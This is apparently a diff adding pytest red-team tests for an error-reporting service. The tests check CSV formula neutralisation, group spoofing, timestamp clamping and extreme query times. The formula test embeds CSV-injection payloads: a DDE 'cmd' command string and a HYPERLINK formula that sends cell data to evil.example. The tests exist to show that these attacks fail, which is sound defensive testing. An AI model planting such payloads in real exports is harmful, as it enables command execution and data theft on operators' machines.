@@ -1,0 +1,98 @@
+"""Red-team probes of issue 8 (error reports, buckets, downloads): each test is an attack that must fail."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+
+import pytest
+from error_world import COSE, ENDPOINT, batch, crash
+from fleet_world import StatusDevice, make_status_device
+from sqlalchemy import select
+from sqlalchemy.orm import Session, sessionmaker
+
+from bastion.service.models import DeviceReleaseActivity, ErrorBucket, ErrorEvent
+from bastion.service.tenants.service import CreatedTenant
+from conftest import FakeClock, TestClient, bearer
+
+
+@pytest.fixture
+def device(
+    tenant: CreatedTenant, session_factory: sessionmaker[Session], master_key: bytes, clock: FakeClock
+) -> StatusDevice:
+    return make_status_device(session_factory, owner_tenant=tenant.tenant_id, master_key=master_key, now=clock())
+
+
+def _send(client: TestClient, body: bytes) -> int:
+    return client.post(ENDPOINT, content=body, headers=COSE).status_code
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_download_neutralises_formula_cells(
+    client: TestClient, device: StatusDevice, tenant: CreatedTenant, clock: FakeClock, start: str
+) -> None:
+    """A hostile device's text must not become a spreadsheet formula in the operator's CSV."""
+    now = clock()
+    record = crash(now, component=f"{start}cmd|' /C calc'!A0", version=f"{start}1+1")
+    record["description"] = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
+    body = batch(device, iat=now, records=[record], os_version=f"{start}2+2")
+    assert _send(client, body) == 200
+    r = client.get("/api/v1/error-reports/download?format=csv", headers=bearer(tenant.admin_token))
+    assert r.status_code == 200, r.text
+    rows = list(csv.reader(io.StringIO(r.text)))
+    assert len(rows) == 2
+    for cell in rows[1]:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), rows[1]
+    # The JSON form carries the device's text as it was sent.
+    j = client.get("/api/v1/error-reports/download?format=json", headers=bearer(tenant.admin_token)).json()
+    assert j[0]["Description"] == record["description"]
+
+
+def test_a_device_cannot_report_from_another_group(
+    client: TestClient, device: StatusDevice, session_factory: sessionmaker[Session], clock: FakeClock
+) -> None:
+    """The group is the service's record of the device, not the device's claim (fleet health, rollout baselines)."""
+    now = clock()
+    body = batch(device, iat=now, records=[crash(now)], override={"group_id": "some-other-group"})
+    assert _send(client, body) == 200
+    with session_factory() as session:
+        groups = {e.group_id for e in session.scalars(select(ErrorEvent))}
+        groups |= {a.group_id for a in session.scalars(select(DeviceReleaseActivity))}
+    assert groups <= {None}, groups
+
+
+@pytest.mark.parametrize("times", [(0, 0), (0, 2**37), (2**37, 2**37)])
+def test_record_times_are_held_within_the_batch_window(
+    client: TestClient,
+    device: StatusDevice,
+    session_factory: sessionmaker[Session],
+    clock: FakeClock,
+    times: tuple[int, int],
+) -> None:
+    """A record may not claim 1970 or the year 6325: it would pin its bucket's times and a crash in every window."""
+    now = clock()
+    record = crash(now)
+    record["first_at"], record["last_at"] = times
+    r = client.post(ENDPOINT, content=batch(device, iat=now, records=[record]), headers=COSE)
+    assert r.status_code == 200, r.text
+    low, high = now - dt.timedelta(days=30), now + dt.timedelta(minutes=10)
+    with session_factory() as session:
+        (bucket,) = session.scalars(select(ErrorBucket)).all()
+        (event,) = session.scalars(select(ErrorEvent)).all()
+        for when in (bucket.first_seen, bucket.last_seen, event.first_at, event.last_at):
+            assert low <= when <= high, when
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "since=0001-01-01T00:00:00%2B01:00",
+        "since=9999-12-31T23:59:59-01:00",
+        "until=0001-01-01T00:00:00%2B01:00",
+    ],
+)
+def test_extreme_times_in_queries_are_not_5xx(client: TestClient, tenant: CreatedTenant, query: str) -> None:
+    for path in ("/api/v1/error-reports/buckets", "/api/v1/error-reports/download"):
+        r = client.get(f"{path}?{query}", headers=bearer(tenant.admin_token))
+        assert r.status_code < 500, (path, query, r.status_code, r.text)
